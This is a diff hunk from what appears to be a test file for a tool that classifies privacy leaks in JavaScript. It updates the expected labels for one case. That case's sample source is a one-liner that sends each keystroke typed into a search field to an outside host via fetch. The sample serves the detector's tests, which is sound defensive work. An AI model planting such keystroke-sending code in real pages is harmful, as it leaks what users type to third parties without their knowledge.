@@ -48,8 +48,8 @@ test.each<[name: string, source: string, has: readonly string[], hasNot: readonl
   [
     'the event on which it happens',
     `document.querySelector('#q').onkeyup=function(){fetch('https://a.example/?'+this.value)}`,
-    ['private while typing', 'field to other'],
-    ['private while sending'],
+    ['private while typing', 'field to other', 'private to other'],
+    ['private while sending', 'private to unknown'],
   ],
   [
     'the host that follows from the clock',
